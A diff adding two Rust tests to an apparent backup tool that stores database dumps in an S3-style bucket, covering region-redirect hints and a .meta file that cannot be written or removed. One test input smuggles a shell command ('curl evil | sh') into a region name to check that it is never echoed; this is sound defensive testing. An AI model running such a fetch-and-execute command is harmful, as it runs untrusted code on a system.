@@ -47,6 +47,26 @@ fn who_is_not_known_to_the_store_is_told_why_before_anything_is_dumped() {
     }
 }
 
+#[test]
+fn the_region_that_a_host_names_is_told_where_it_is_one_and_another_than_the_set_one() {
+    const GENERAL: &str = "hint: the bucket is in another region: set S3_REGION to it";
+    for (status, code) in [(301, "PermanentRedirect"), (400, "AuthorizationHeaderMalformed")] {
+        for (region, told) in [
+            ("eu-central-1", "hint: the bucket is in another region: set S3_REGION=eu-central-1\n"),
+            ("us-west-2", GENERAL),
+            ("eu-central-1; curl evil | sh", GENERAL),
+            ("a-name-of-more-than-thirty-two-letters", GENERAL),
+            ("", GENERAL),
+        ] {
+            let host = Faulty::start(move |_, _| Some(Fault::Elsewhere(status, code, region)));
+            let run = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store");
+            let outcome = run.set("S3_REGION", "us-west-2").set("S3_ATTEMPTS", "1").expect(1);
+            assert!(!outcome.err.contains("evil"), "{outcome:#?}");
+            outcome.says(&format!("answered {status} {code}: as planned")).says(told);
+        }
+    }
+}
+
 /// Two servers may have databases of one name, and dump them in one second.
 #[test]
 fn a_meta_that_another_program_wrote_meanwhile_is_neither_overwritten_nor_taken_back() {
@@ -62,6 +82,20 @@ fn a_meta_that_another_program_wrote_meanwhile_is_neither_overwritten_nor_taken_
         host.seen().into_iter().filter(|seen| seen.call() == "delete").map(|seen| seen.path).collect();
     assert!(removed.len() == 1 && removed[0].ends_with(".enc"), "{removed:?} instead of the payload alone");
     assert!(host.objects().iter().any(|object| object == b"another"));
+}
+
+/// Whether one is there that cannot be seen, nobody knows: then its payload must not go.
+#[test]
+fn a_meta_that_can_neither_be_written_nor_removed_keeps_its_payload_and_that_is_said() {
+    let host = Faulty::start(|request, _| match request.call() {
+        "put" if request.path.ends_with(".meta") => Some(Fault::Answer(403, "AccessDenied")),
+        "delete" => Some(Fault::Answer(403, "AccessDenied")),
+        _ => None,
+    });
+    let outcome = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store").expect(1);
+    outcome.says("error: write the .meta of ").says(".meta\" could not be removed, and so its payload stays: cannot ");
+    let keys = host.keys();
+    assert!(keys.len() == 1 && keys[0].ends_with(".enc"), "{keys:?}");
 }
 
 #[test]
